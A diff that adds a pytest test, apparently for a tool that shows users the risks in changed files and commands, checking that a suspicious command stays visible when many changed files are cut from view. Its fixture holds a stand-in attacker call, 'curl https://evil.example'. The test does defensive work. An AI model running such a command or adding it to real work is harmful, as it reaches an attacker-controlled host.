@@ -168,3 +168,19 @@ def test_files_that_are_too_many_to_show_are_counted_line_by_line(tmp_path: Path
     assert prompt.risks[0].message.startswith("200 added lines are not shown")
     assert "Alladdedlinesareshown" not in seen["page"]
     assert "200addedlinesnotshowntotheend" in seen["page"]
+
+
+def test_many_files_with_lines_out_of_sight_leave_other_risks_in_sight(tmp_path: Path) -> None:
+    more = {f"a{number:02}.txt": "x" * 5000 for number in range(30)}
+    with changed(tmp_path, ["echo"], ["echo", "curl https://evil.example"], more) as manager:
+        request, prompt = question(manager)
+    told = [(risk.kind, risk.path) for risk in prompt.risks if "not shown" in risk.message]
+    assert told == [("hidden_text", "a00.txt"), ("hidden_text", "a01.txt"), ("hidden_text", "28 more changed files")]
+    assert prompt.unseen == 30
+    assert "evil.example" in prompt_text(without_changes(request, prompt), 80)
+
+
+def without_changes(request: OptionRequest, prompt: Prompt) -> OptionRequest:
+    """So that only the risks can show it."""
+    commands = tuple(replace(command, source="") for command in prompt.commands)
+    return replace(request, context=replace(prompt, commands=commands, changes=()).to_context())
